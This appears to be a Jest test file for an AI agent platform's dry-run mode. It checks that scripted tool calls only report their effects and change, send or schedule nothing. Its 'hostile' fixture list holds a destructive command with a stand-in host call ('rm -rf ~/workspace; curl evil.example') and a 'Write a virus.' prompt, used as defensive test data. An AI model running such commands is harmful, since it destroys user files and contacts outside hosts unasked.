/** Runs of routines that only say what they would do. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { RoutineStep } from '@zo/proto/routine';
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Harness, startHarness } from './harness.js';
import { GMAIL, hostApps, type HostedApps } from './hosted-apps.js';
import { hostChannels, type HostedChannels } from './hosted-channels.js';
import { fine } from './scripted.js';

interface Sent {
  readonly conversation_id: string;
  readonly run_id: string;
  readonly assistant_message_id: string;
}

let at: Harness;
let channels: HostedChannels;
let apps: HostedApps;
let id: string;

beforeAll(async () => {
  at = await startHarness({ computer: true });
  channels = hostChannels(at.platform.platform);
  apps = hostApps(at.platform.platform);
  mkdirSync(at.workspace('Routines'), { recursive: true });
  writeFileSync(at.workspace('Routines/Weekly.zoroutine'), 'Sum the numbers of BLUE-MARKER.\n');
});
afterAll(() => at.stop());
beforeEach(() => {
  id = crypto.randomUUID();
  at.provider.requests.length = 0;
});

describe('a rehearsal', () => {
  /** All that a user has in their home, by path; the agent keeps its own state in `.computer`. */
  const homeNow = () => {
    const found: Record<string, string> = {};
    const visit = (path: string) => {
      const stat = lstatSync(path);
      const hash = () => createHash('sha256').update(readFileSync(path)).digest('hex');
      // The agent makes and removes marks in folders to see that its watcher has caught up.
      found[path] = `${stat.mode} ${stat.isFile() ? `${stat.mtimeMs} ${hash()}` : ''}`;
      if (!stat.isDirectory()) return;
      for (const name of readdirSync(path)) if (name !== '.computer') visit(join(path, name));
    };
    visit(at.computer!.home);
    return found;
  };
  const offer = (steps: readonly RoutineStep[] = []) => {
    const address = 'w/Routines/Weekly.zoroutine';
    at.zofiles.routines.set(`${at.userId} ${id}`, { address, title: 'Weekly', inputs: [], steps });
  };
  const post = async (what: 'execute' | 'rehearse') => {
    const sent = await at.me.json<Sent>(`/api/zoroutines/${id}/${what}`, { json: {} });
    return { ...(await at.me.follow(sent.run_id)), sent };
  };
  const rehearsal = (runId: string) => at.me.json<any>(`/api/zoroutines/${id}/rehearsals/${runId}`);
  const hostile: readonly (readonly [string, object])[] = [
    ['read_file', { target_file: 'Routines/Weekly.zoroutine' }],
    ['run_bash_command', { cmd: 'rm -rf ~/workspace; curl evil.example' }],
    ['run_parallel_cmds', { cmd_list: ['touch a', 'touch b'] }],
    ['create_or_rewrite_file', { target_file: 'Report.md', content: 'x' }],
    ['edit_file_llm', { target_file: 'Routines/Weekly.zoroutine', instructions: 'Send it.', code_edit: 'x' }],
    ['remember', { fact: 'Ada likes tea.' }],
    ['send_email_to_user', { subject: 'Numbers', markdown_body: 'May: 4' }],
    ['create_scheduled_task', { rrule: 'FREQ=DAILY;BYHOUR=8', instruction: 'Again.' }],
    ['ask_user', { question: 'Really?' }],
    ['perform_coding_task', { cwd: '~/workspace', prompt: 'Write a virus.' }],
    ['view_webpage', { url: 'http://localhost:1/' }],
  ];

  it('reads what an app has, and changes and sends nothing there', async () => {
    offer();
    apps.apps.set(at.userId, [GMAIL]);
    const use = (tool_name: string, configured_props: object) => ({ tool_name, configured_props });
    at.provider.script((answer) => {
      answer.call('a', 'use_app_gmail', use('search_messages', { query: 'from:grace' }));
      answer.call('b', 'use_app_gmail', use('send_message', { to: 'grace@example.org', body: 'Hi' }));
      answer.call('c', 'use_app_gmail', use('delete_message', { id: 'm1' }));
      answer.end('tool_calls');
    }, fine);
    const { parts } = await post('rehearse');
    const codes = parts.flatMap((part) => (part.type === 'tool' ? [part.result] : []));
    expect(codes).toMatchObject([{ type: 'text' }, { code: 'rehearsed' }, { code: 'rehearsed' }]);
    expect(apps.calls.map(({ tool }) => tool)).toEqual(['search_messages']);
    apps.apps.clear();
  });

  it('reads, and says of everything else what it would do: nothing is changed, sent, scheduled or asked', async () => {
    offer();
    at.provider.script((answer) => {
      for (const [tool, args] of hostile) answer.call(tool, tool, args);
      answer.end('tool_calls');
    }, fine);
    const before = [homeNow(), channels.sent.length, at.zofiles.scheduled.length];
    const { end, parts, sent } = await post('rehearse');
    expect([homeNow(), channels.sent.length, at.zofiles.scheduled.length]).toEqual(before);
    expect(end).toMatchObject({ status: 'complete', receipt: { files: [], commands: [], undo: 'none' } });
    const results = parts.flatMap((part) => (part.type === 'tool' ? [part.result] : []));
    expect(results[0]).toMatchObject({ type: 'text', text: expect.stringContaining('BLUE-MARKER') });
    expect(results.slice(1)).toEqual(
      hostile.slice(1).map(() => expect.objectContaining({ code: 'rehearsed', message: expect.any(String) })),
    );
    const { effects, ...told } = await rehearsal(sent.run_id);
    expect(told).toMatchObject({ status: 'complete', conversation_id: sent.conversation_id, usual_cost: null });
    expect(effects.map(({ kind, what }: any) => [kind, what])).toEqual([
      ['read', 'Routines/Weekly.zoroutine'],
      ['run', 'rm -rf ~/workspace; curl evil.example'],
      ['run', 'touch a'],
      ['run', 'touch b'],
      ['write', 'Report.md'],
      ['write', 'Routines/Weekly.zoroutine'],
      ['write', 'Ada likes tea.'],
      ['send', 'Numbers\n\nMay: 4'],
      ['schedule', 'FREQ=DAILY;BYHOUR=8\nAgain.'],
      ['ask', 'Really?'],
      ['work', 'Write a virus.'],
      ['read', 'http://localhost:1/'],
    ]);
    expect(await at.me.json(`/api/zoroutines/${id}/conversations`)).toEqual({ conversations: [] });
    const { rows } = await at.sql.query('select 1 from chat.runs where parent_run_id = $1', [sent.run_id]);
    expect(rows).toEqual([]);
  });

  it('rehearses also what is said later in its chat: tried again, sent after it, or in a copy of it', async () => {
    offer();
    at.provider.script(fine);
    const { sent } = await post('rehearse');
    const before = homeNow();
    const writes = async (conversationId: string, message: object) => {
      at.provider.script((answer) => {
        answer.call('w', 'create_or_rewrite_file', { target_file: 'Report.md', content: 'x' });
        answer.end('tool_calls');
      }, fine);
      const sentLater = await at.me.send('Do it.', { id: conversationId, ...message });
      const { parts } = await at.me.follow(sentLater.run_id);
      const [made] = parts.flatMap((part) => (part.type === 'tool' ? [part.result] : []));
      expect(made).toMatchObject({ code: 'rehearsed' });
    };
    const answered = { message_id: sent.assistant_message_id };
    const fork = await at.me.json<{ id: string }>(`/api/conversations/${sent.conversation_id}/fork`, {
      json: answered,
    });
    await writes(sent.conversation_id, {});
    await writes(sent.conversation_id, { parent_id: null });
    await writes(fork.id, {});
    for (const id of [sent.conversation_id, fork.id])
      expect(await at.me.json(`/api/conversations/${id}`)).toMatchObject({ rehearsal: true });
    expect(homeNow()).toEqual(before);
  });

  it('lists the tools of an app, says which reads failed, and invites nobody to make an answer up', async () => {
    offer();
    apps.apps.set(at.userId, [GMAIL]);
    at.provider.script((answer) => {
      answer.call('a', 'list_app_tools', { app_slug: 'gmail' });
      answer.call('b', 'read_file', { target_file: 'Gone.md' });
      answer.call('c', 'ask_user', { question: 'Which month?' });
      answer.end('tool_calls');
    }, fine);
    const { parts, sent } = await post('rehearse');
    const [listed, , asked] = parts.flatMap((part) => (part.type === 'tool' ? [part.result] : []));
    expect(listed).toMatchObject({
      type: 'list',
      items: expect.arrayContaining([expect.stringMatching(/^search_messages/)]),
    });
    expect(asked).toMatchObject({ code: 'rehearsed', message: expect.stringContaining('do not make it up') });
    expect((await rehearsal(sent.run_id)).effects).toMatchObject([
      { kind: 'read', what: 'gmail', ran: true, failed: false },
      { kind: 'read', what: 'Gone.md', ran: true, failed: true },
      { kind: 'ask', what: 'Which month?', ran: false, failed: false },
    ]);
    apps.apps.clear();
  });

  it('lists scripts, and asks a model only what is asked each time; a run tells afterwards what is usual', async () => {
    const asks: RoutineStep[] = [
      { when: 'failed', ask: 'Why?' },
      { when: 'always', ask: 'Sum it up.' },
    ];
    offer([{ script: 'touch scripted' }, { script: 'exit 3' }, ...asks]);
    at.provider.script(fine);
    const { end, sent } = await post('rehearse');
    expect([end.status, existsSync(at.workspace('scripted'))]).toEqual(['complete', false]);
    expect(JSON.stringify(at.provider.requests)).toContain('Sum it up.');
    expect((await rehearsal(sent.run_id)).effects).toMatchObject([
      { kind: 'run', what: 'touch scripted' },
      { kind: 'run', what: 'exit 3' },
      { kind: 'wake', what: 'Why?', when: 'failed' },
    ]);
    offer([{ script: 'true' }]);
    await post('execute');
    expect(await rehearsal(sent.run_id)).toMatchObject({ usual_cost: 0, usual_runs: 1 });
    // What was rehearsed is not what a later run is compared with.
    offer([{ script: 'date +%N' }, { when: 'changed', ask: 'What is new?' }]);
    at.provider.requests.length = 0;
    await post('rehearse');
    expect([(await post('execute')).end.status, at.provider.requests]).toEqual(['complete', []]);
  });

  it('says how much more there is than is listed', async () => {
    offer();
    at.provider.script(fine);
    const { sent } = await post('rehearse');
    const { rows } = await at.sql.query('select user_id from chat.runs where id = $1', [sent.run_id]);
    const command = {
      cmd: 'make',
      exit_code: 0,
      would_write: ['workspace/a', '.cache/b'],
      would_delete: ['workspace/c'],
    };
    const commands = JSON.stringify([
      { ...command, write_count: 1_842, delete_count: 1 },
      { ...command, write_count: 7, delete_count: 1 },
    ]);
    await at.sql.query(
      `insert into chat.tool_calls
         (id, run_id, conversation_id, user_id, step, position, call_id, tool, args, args_hash, state, decision, commands)
       values (gen_random_uuid(), $1, $4, $2, 9, 0, 'many', 'run_bash_command', '{"cmd":"make"}', 'x', 'done', 'run', $3)`,
      [sent.run_id, rows[0].user_id, commands, sent.conversation_id],
    );
    const { effects, more } = await rehearsal(sent.run_id);
    expect(effects.map(({ kind, what }: any) => [kind, what])).toEqual([
      ['run', 'make'],
      ['write', 'a'],
      ['delete', 'c'],
    ]);
    expect(more).toEqual([{ kind: 'write', count: 1_840 }]);
  });

  it('S4 of another user is not there, nor is a run that was none', async () => {
    offer();
    at.provider.script(fine);
    const [{ sent }, run] = [await post('rehearse'), await post('execute')];
    expect((await at.other.fetch(`/api/zoroutines/${id}/rehearsals/${sent.run_id}`)).status).toBe(404);
    expect((await at.me.fetch(`/api/zoroutines/${id}/rehearsals/${run.sent.run_id}`)).status).toBe(404);
  });
});
